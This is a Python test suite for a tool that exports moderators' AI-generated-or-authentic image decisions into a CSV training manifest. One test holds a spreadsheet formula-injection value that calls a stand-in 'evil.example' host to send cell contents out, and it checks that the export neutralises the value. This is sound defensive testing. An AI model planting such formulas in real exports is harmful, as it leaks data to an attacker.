"""`item labels export` on a real ledger (both databases): moderators' decisions back into a training set.

Checks are written by hand (no models run) with inline blobs and URL sources served on 127.0.0.1, decided by
`record_decision`, exported, and read back the way `item train` reads them, with `load_dataset`.
"""

from __future__ import annotations

import csv
import hashlib
import json
import urllib.request
from datetime import timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pipeline.lab.datasets import FAKE, REAL, load_dataset
from pipeline.lab.synthetic import make_image
from tests.conftest import encode, noise_image
from tests.integration.stack import run_item
from tests.integration.test_cli import env as env  # noqa: F401  (the module fixture: tiny models, offline)
from worker import labels
from worker.labels import export_labels
from worker.ledger.models import DecisionRow, PipelineVersionRow
from worker.ledger.reviews import record_decision
from worker.ledger.store import Ledger
from worker.settings import Settings

VERSION = "pv-labels"
LOOPBACK = ["127.0.0.0/8"]
JPEG = encode(noise_image(1), "JPEG", quality=90)
PNG = encode(noise_image(2))
WEBP = encode(noise_image(3), "WEBP")


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture(scope="module")
def served(images) -> bytes:
    """The bytes the image server answers /image.png with."""
    with urllib.request.urlopen(f"{images.url}/image.png", timeout=5) as answer:
        return answer.read()


def settings_for(ledger: Ledger, **overrides) -> Settings:
    url = ledger.engine.url.render_as_string(hide_password=False)
    return Settings(database_url=url, fetch_timeout_s=3, **{"fetch_allowed_networks": LOOPBACK, **overrides})


class Desk:
    """Files checks and decisions on the ledger, as intake, workers and the console would."""

    def __init__(self, ledger: Ledger):
        self.ledger = ledger
        with ledger.session() as session:
            session.add(PipelineVersionRow(id=VERSION, profile="tiny", caption="c", ground="g", embed="e", head="h"))

    def blob(self, external_id: str, data: bytes, *, store: bool = True, p_fake: float | None = 0.5) -> str:
        with self.ledger.session() as session:
            if store:
                self.ledger.put_blob(session, sha(data), data)
            return self._check(session, external_id, {"blob": sha(data)}, sha(data), p_fake)

    def url(self, external_id: str, url: str, image_sha256: str | None, p_fake: float | None = None) -> str:
        with self.ledger.session() as session:
            return self._check(session, external_id, {"url": url}, image_sha256, p_fake)

    def _check(self, session, external_id, source, image_sha256, p_fake) -> str:
        row, _ = self.ledger.create_check(session, external_id=external_id, pipeline_version_id=VERSION, source=source)
        row.image_sha256, row.p_fake = image_sha256, p_fake
        return row.id

    def decide(self, check_id: str, *labels_in_order: str, reviewer: str = "mod-ana") -> None:
        for label in labels_in_order:  # one transaction each: every later decision is a later time
            with self.ledger.session() as session:
                record_decision(session, check_id, label, reviewer, key_id="k000000000001")


def rows_of(manifest: Path) -> dict[str, dict]:
    with manifest.open(newline="", encoding="utf-8") as handle:
        return {row["external_id"]: row for row in csv.DictReader(handle)}


def test_decisions_become_a_manifest_of_labelled_files(ledger, images, served, tmp_path):
    desk = Desk(ledger)
    fake = desk.blob("post-fake", JPEG, p_fake=0.97)
    real = desk.blob("post-real", PNG, p_fake=0.03)
    same_bytes = desk.blob("post-fake-again", JPEG)  # another upload of the same image
    overridden = desk.blob("post-overridden", WEBP)
    from_url = desk.url("post-url", f"{images.url}/image.png", sha(served), p_fake=0.2)
    gone = desk.url("post-gone", f"{images.url}/gone.png", None)
    missing = desk.blob("post-blob-missing", encode(noise_image(4)), store=False)
    changed = desk.url("post-changed", f"{images.url}/image.png", "0" * 64)  # scored bytes other than served now
    unsure = desk.blob("post-unsure", encode(noise_image(5)))
    became_unsure = desk.blob("post-became-unsure", encode(noise_image(6)))
    desk.blob("post-undecided", encode(noise_image(8)))  # never decided: not in the export
    desk.decide(fake, "ai_generated")
    desk.decide(real, "authentic", reviewer="mod-bo")
    desk.decide(same_bytes, "unsure", "ai_generated")
    desk.decide(overridden, "ai_generated", "authentic")  # the later decision counts
    desk.decide(from_url, "authentic")
    desk.decide(unsure, "unsure")
    desk.decide(became_unsure, "authentic", "unsure")
    for check_id in (gone, missing, changed):
        desk.decide(check_id, "ai_generated")
    progress = []

    report = export_labels(
        settings_for(ledger), ledger, tmp_path / "out", on_progress=lambda *step: progress.append(step)
    )

    assert (report.fake, report.real, report.unsure, report.exported) == (2, 3, 2, 5)
    assert report.manifest == tmp_path / "out" / "labels.csv"
    assert {(f.check_id, f.code) for f in report.failures} == {
        (gone, "url.http_4xx"),
        (missing, "source.blob_missing"),
        (changed, "labels.image_changed"),
    }
    assert progress[-1] == (8, 8) and len(progress) == 8  # every labelled check, unsure ones not among them
    assert report.images_written == 4  # the JPEG once for its two checks
    assert report.conflicting_images == []

    dataset = load_dataset(report.manifest)
    assert dataset.problems == [] and dataset.groups == ["moderators"]
    by_path = {sample.path: sample.label for sample in dataset.samples}
    rows = rows_of(report.manifest)
    assert set(rows) == {"post-fake", "post-real", "post-fake-again", "post-overridden", "post-url"}
    expected = {
        "post-fake": (JPEG, FAKE, "jpg"),
        "post-real": (PNG, REAL, "png"),
        "post-fake-again": (JPEG, FAKE, "jpg"),
        "post-overridden": (WEBP, REAL, "webp"),
        "post-url": (served, REAL, "png"),
    }
    for external_id, (data, label, extension) in expected.items():
        row = rows[external_id]
        path = report.manifest.parent / row["path"]
        assert row["path"] == f"images/{sha(data)}.{extension}" and row["image_sha256"] == sha(data)
        assert path.read_bytes() == data and by_path[path] == label
        assert row["label"] == ("real", "fake")[label] and row["group"] == "moderators"
        assert row["pipeline_version_id"] == VERSION
    assert rows["post-real"]["reviewer"] == "mod-bo" and rows["post-fake"]["reviewer"] == "mod-ana"
    assert float(rows["post-fake"]["p_fake"]) == 0.97 and rows["post-fake-again"]["p_fake"] == "0.5"
    assert rows["post-real"]["check_id"] == real
    with ledger.session() as session:
        latest = session.query(DecisionRow).filter_by(check_id=overridden).order_by(DecisionRow.decided_at).all()[-1]
    assert rows["post-overridden"]["decided_at"] == latest.decided_at.isoformat()
    written = sorted(path.name for path in (tmp_path / "out").rglob("*") if path.is_file())
    assert written == sorted(["labels.csv", *{f"{sha(d)}.{e}" for d, _, e in expected.values()}])  # no temporaries


def test_urls_are_fetched_with_the_workers_safety_checks(ledger, images, served, tmp_path):
    desk = Desk(ledger)
    desk.decide(desk.url("post-url", f"{images.url}/image.png", sha(served)), "authentic")

    refused = export_labels(settings_for(ledger, fetch_allowed_networks=[]), ledger, tmp_path / "refused")
    assert [f.code for f in refused.failures] == ["url.refused"]  # loopback is a private address
    capped = export_labels(settings_for(ledger, max_image_bytes=100, video_max_bytes=100), ledger, tmp_path / "capped")
    assert [f.code for f in capped.failures] == ["url.too_large"]
    assert refused.exported == capped.exported == 0
    assert rows_of(refused.manifest) == {}  # a manifest of no rows, header only


def test_since_selects_checks_by_their_latest_decision(ledger, tmp_path):
    desk = Desk(ledger)
    early, late, redecided = (desk.blob(f"post-{i}", encode(noise_image(10 + i))) for i in range(3))
    desk.decide(early, "ai_generated")
    desk.decide(redecided, "ai_generated")
    with ledger.session() as session:  # these two were decided an hour ago
        for row in session.query(DecisionRow).filter(DecisionRow.check_id.in_([early, redecided])):
            row.decided_at -= timedelta(hours=1)
        cutoff = session.query(DecisionRow).filter_by(check_id=early).one().decided_at + timedelta(minutes=30)
    desk.decide(late, "authentic")
    desk.decide(redecided, "authentic")  # decided again now: it counts as a new label

    report = export_labels(settings_for(ledger), ledger, tmp_path / "out", since=cutoff)

    rows = rows_of(report.manifest)
    assert {external_id: row["label"] for external_id, row in rows.items()} == {"post-1": "real", "post-2": "real"}


def test_a_second_export_rewrites_the_manifest_whole_and_no_image(ledger, tmp_path, monkeypatch):
    desk = Desk(ledger)
    desk.decide(desk.blob("post-a", JPEG), "ai_generated")
    settings = settings_for(ledger)
    first = export_labels(settings, ledger, tmp_path)
    before = first.manifest.read_bytes()
    desk.decide(desk.blob("post-b", PNG), "authentic")

    second = export_labels(settings, ledger, tmp_path)
    assert second.images_written == 1 and set(rows_of(second.manifest)) == {"post-a", "post-b"}

    def broken(self, rows):  # the disk fills up halfway through the manifest
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(csv.DictWriter, "writerows", broken)
    after = second.manifest.read_bytes()
    with pytest.raises(OSError):
        export_labels(settings, ledger, tmp_path)
    assert second.manifest.read_bytes() == after != before  # the last whole manifest, not a torn one
    assert not [path for path in tmp_path.rglob(".*")], "a temporary file was left behind"


def test_the_same_image_labelled_both_ways_is_reported(ledger, tmp_path):
    desk = Desk(ledger)
    desk.decide(desk.blob("post-a", JPEG), "ai_generated")
    desk.decide(desk.blob("post-b", JPEG), "authentic")
    report = export_labels(settings_for(ledger), ledger, tmp_path)
    assert report.conflicting_images == [sha(JPEG)] and report.exported == 2 and report.images_written == 1


def test_ids_and_names_that_look_like_formulas_are_cells_not_formulas(ledger, tmp_path):
    # given an upload whose platform id, and a reviewer whose key name, start like spreadsheet formulas
    desk = Desk(ledger)
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    desk.decide(desk.blob(hostile, JPEG), "ai_generated", reviewer="@SUM(1+1)")
    desk.decide(desk.blob("post-plain", PNG), "authentic")
    # when they are exported, then those cells start with an apostrophe, and the rest are as they were
    rows = rows_of(export_labels(settings_for(ledger), ledger, tmp_path).manifest)
    assert rows["'" + hostile]["reviewer"] == "'@SUM(1+1)"
    assert rows["post-plain"]["reviewer"] == "mod-ana"


def _cli_env(ledger: Ledger) -> dict[str, str]:
    return {
        "ITEM_DATABASE_URL": ledger.engine.url.render_as_string(hide_password=False),
        "ITEM_FETCH_ALLOWED_NETWORKS": json.dumps(LOOPBACK),
        "ITEM_FETCH_TIMEOUT_S": "3",
        "COLUMNS": "250",
    }


def test_item_labels_export(ledger, images, tmp_path):
    from worker.cli.labels import app

    desk = Desk(ledger)
    desk.decide(desk.blob("post-fake", JPEG), "ai_generated")
    desk.decide(desk.blob("post-unsure", PNG), "unsure")
    runner, env, out = CliRunner(), _cli_env(ledger), tmp_path / "export"

    shown = runner.invoke(app, ["labels", "export", "--out", str(out)], env=env)
    assert shown.exit_code == 0, shown.output
    assert "exported 1 labels" in shown.stdout and "skipped 1 checks decided unsure" in shown.stdout
    assert f"item train {out / 'labels.csv'}" in shown.stdout

    gone = desk.url("post-gone", f"{images.url}/gone.png", None)
    desk.decide(gone, "authentic")
    as_json = runner.invoke(app, ["labels", "export", "--out", str(out), "--json"], env=env)
    assert as_json.exit_code == 1, as_json.output  # a row failed
    summary = json.loads(as_json.stdout)
    assert (summary["exported"], summary["fake"], summary["real"], summary["unsure"]) == (1, 1, 0, 1)
    assert summary["failed"] == 1 and summary["manifest"] == str(out / "labels.csv")
    [failure] = summary["failures"]
    assert failure["check_id"] == gone and failure["external_id"] == "post-gone" and failure["code"] == "url.http_4xx"

    table = runner.invoke(app, ["labels", "export", "--out", str(out)], env=env)
    assert table.exit_code == 1 and "url.http_4xx" in table.stderr and "post-gone" in table.stderr

    since = runner.invoke(app, ["labels", "export", "--out", str(out), "--since", "2999-01-01T00:00:00"], env=env)
    assert since.exit_code == 0 and "no labels to export" in since.stdout and "item train" not in since.stdout
    assert runner.invoke(app, ["labels", "export", "--out", str(out), "--since", "yesterday"], env=env).exit_code == 2
    assert runner.invoke(app, ["labels"], env=env).exit_code in (0, 2)  # help, no command run
    assert "export" in runner.invoke(app, ["labels", "--help"], env=env).stdout


@pytest.mark.slow
def test_item_train_accepts_the_exported_manifest(ledger, env, tmp_path):  # noqa: F811
    if ledger.engine.dialect.name != "sqlite":
        pytest.skip("training reads only the files: once, on one database, is enough")
    desk = Desk(ledger)
    for i in range(4):  # two visibly different families, as the lab's synthetic benchmark makes them
        desk.decide(desk.blob(f"post-real-{i}", encode(make_image("smooth", i))), "authentic")
        desk.decide(desk.blob(f"post-fake-{i}", encode(make_image("patterned", i), "JPEG")), "ai_generated")
    report = export_labels(settings_for(ledger), ledger, tmp_path / "export")
    assert (report.real, report.fake, report.failed) == (4, 4, 0)

    lab_env = {**env, "ITEM_PROFILE": "tiny", "ITEM_FEATURE_DIR": str(tmp_path / "cache")}
    head = tmp_path / "head"
    trained = run_item(lab_env, "train", str(report.manifest), "--out", str(head), "--hidden", "16", "--json")

    summary = json.loads(trained.stdout)
    assert summary["datasets"] == [str(report.manifest)]
    assert summary["features"]["images"] == 8 and summary["features"]["unreadable"] == 0
    assert summary["features"]["skipped_entries"] == 0 and Path(summary["head"]).is_file()


def test_every_label_the_console_gives_is_mapped_or_skipped_on_purpose():
    from worker.ledger.reviews import LABELS

    assert set(LABELS) - set(labels.LABEL_OF) == {"unsure"}
